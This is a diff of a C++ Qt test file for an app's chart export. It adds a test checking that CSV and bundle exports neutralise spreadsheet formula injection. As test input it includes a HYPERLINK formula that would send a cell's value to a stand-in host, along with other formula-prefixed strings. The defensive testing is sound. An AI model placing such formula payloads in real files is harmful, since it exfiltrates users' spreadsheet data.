@@ -54,6 +54,8 @@ private Q_SLOTS:
     void csvMatchesTheFragilityScores();
     void userFiguresAreMarkedInCsvSourceLineAndAltText();
     void csvAndSvgAreReproducible();
+    void csvIsSpreadsheetSafe_data();
+    void csvIsSpreadsheetSafe();
     void bundleHoldsEverythingToReproduceTheChart();
     void footnoteListsOnlyChangedAssumptions();
     void altTextDescribesRangeUnitsAndHeadline();
@@ -78,15 +80,15 @@ namespace {
 /// The records of an exported CSV after its "# " comment block.
 std::vector<cliff::csv::Record> csvRecords(const QByteArray &bytes)
 {
-    QByteArray body;
-    for (const QByteArray &line : bytes.split('\n')) {
-        if (!line.startsWith('#') && !line.isEmpty())
-            body += line + '\n';
-    }
-    auto records = cliff::csv::parse(body.toStdString(), "export.csv");
+    auto records = cliff::csv::parse(bytes.toStdString(), "export.csv");
     if (!records)
         qFatal("%s", records.error().toString().c_str());
-    return std::move(records).value();
+    std::vector<cliff::csv::Record> body;
+    for (cliff::csv::Record &record : records.value()) {
+        if (!cliff::csv::isComment(record))
+            body.push_back(std::move(record));
+    }
+    return body;
 }
 
 /// Every text element's content, each simplified, joined with single spaces.
@@ -245,7 +247,7 @@ void TestExport::everyViewExportsEveryFormat()
         const auto records = csvRecords(*bytes);
         QVERIFY(records.size() > 1);
         QCOMPARE(records.front().fields, cliff::plot::plotCsvColumns());
-        QVERIFY(bytes->startsWith("# Compute Cliff Explorer "));
+        QVERIFY(bytes->startsWith("\"# Compute Cliff Explorer "));
         QVERIFY(bytes->contains("# scenario: compute-cliff:view="));
         break;
     }
@@ -422,7 +424,7 @@ void TestExport::userFiguresAreMarkedInCsvSourceLineAndAltText()
     QCOMPARE(cliff::plot::userFiguresLine(*exported), named);
     QVERIFY(cliff::plot::exportSourceLine(*exported).ends_with(" " + named));
     QVERIFY(cliff::plot::altText(*exported).find(named) != std::string::npos);
-    QVERIFY(csv.contains(QByteArray::fromStdString("# " + named + "\r\n")));
+    QVERIFY(csv.contains(QByteArray::fromStdString("\"# " + named + "\"\r\n")));
     QCOMPARE(cliff::plot::userFiguresLine(subject(EconomicView::Fragility, "implied-default")), std::string());
 }
 
@@ -438,6 +440,92 @@ void TestExport::csvAndSvgAreReproducible()
         QVERIFY(first.ok() && second.ok());
         QVERIFY2(*first == *second, qPrintable(cliff::ui::exportFormatKey(format)));
     }
+}
+
+void TestExport::csvIsSpreadsheetSafe_data()
+{
+    QTest::addColumn<ExportFormat>("format");
+    QTest::newRow("csv") << ExportFormat::Csv;
+    QTest::newRow("bundle") << ExportFormat::Bundle;
+}
+
+void TestExport::csvIsSpreadsheetSafe()
+{
+    QFETCH(ExportFormat, format);
+    // A chart whose every text carries a formula, plotting the user's figure from a source whose
+    // publisher has a comma: what a hostile import could put in front of an export.
+    cliff::Figure own = m_figures.front();
+    own.id = "my-poison";
+    own.entity = "=HYPERLINK(\"http://x/?d=\"&A2,\"click\")";
+    own.sourceId = "my-source";
+    own.readIn.clear();
+    own.userOwned = true;
+    const cliff::Source source{"my-source", "=1+1", "Acme, Inc.", "https://example.org/poison",
+                               "2025", "report", {}};
+    std::vector<cliff::Figure> figures = m_figures;
+    figures.push_back(own);
+    std::vector<cliff::Source> sources = m_sources;
+    sources.push_back(source);
+    cliff::plot::ChartSpec chart;
+    chart.key = "poison";
+    chart.title = "=title";
+    chart.x.title = "+x";
+    chart.x.kind = cliff::plot::AxisKind::Category;
+    chart.x.categories = {"=category"};
+    chart.y.title = "y";
+    chart.y.unit = "-units";
+    cliff::plot::Series series;
+    series.name = "+series";
+    series.shape = cliff::plot::SeriesShape::Bars;
+    series.evidence = cliff::plot::Evidence::Reported;
+    cliff::plot::Point point;
+    point.y = -2.5;
+    point.yHigh = -1.25;
+    point.figureId = own.id;
+    point.label = "@label";
+    point.userOwned = true;
+    series.points = {point};
+    chart.series = {series};
+    chart.markers = {cliff::plot::Marker{false, -1.5, "-marker"}};
+    chart.figureIds = {own.id};
+    cliff::plot::ViewPlot plot;
+    plot.view = EconomicView::Moat;
+    plot.question = "-question";
+    plot.headline = "@headline";
+    plot.charts = {chart};
+    auto exported = cliff::plot::makeExportSubject(plot, {}, {}, figures, sources);
+    QVERIFY2(exported.ok(), exported.ok() ? "" : exported.error().toString().c_str());
+    const auto bytes = cliff::ui::renderExport(*exported, optionsFor(format));
+    QVERIFY2(bytes.ok(), bytes.ok() ? "" : bytes.error().toString().c_str());
+    const QByteArray csv = format == ExportFormat::Csv
+                               ? *bytes
+                               : unzip(*bytes).at(QString::fromStdString(exported->fileStem()) + QStringLiteral(".csv"));
+
+    auto records = cliff::csv::parse(csv.toStdString(), "poison.csv");
+    QVERIFY(records.ok());
+    bool sourceComment = false;
+    std::vector<std::vector<std::string>> rows;
+    for (const cliff::csv::Record &record : *records) {
+        if (cliff::csv::isComment(record)) {
+            QVERIFY(rows.empty()); // comments come before the header
+            sourceComment = sourceComment
+                            || record.fields.front()
+                                   == "# source: my-source: Acme, Inc., \u201c=1+1\u201d, 2025, "
+                                      "https://example.org/poison";
+            continue;
+        }
+        rows.push_back(record.fields);
+    }
+    QVERIFY(sourceComment);
+    QCOMPARE(rows.size(), std::size_t(3));
+    QCOMPARE(rows[0], cliff::plot::plotCsvColumns());
+    const std::vector<std::string> bar = {"poison", "'+series", "0", "'=category", "-2.5", "-1.25",
+                                          "'-units", own.kind, "my-poison", "my-source", "'@label",
+                                          "user"};
+    QCOMPARE(rows[1], bar);
+    const std::vector<std::string> marker = {"poison", "'-marker", "", "", "-1.5", "", "'-units",
+                                             "marker", "", "", "horizontal line", ""};
+    QCOMPARE(rows[2], marker);
 }
 
 void TestExport::bundleHoldsEverythingToReproduceTheChart()
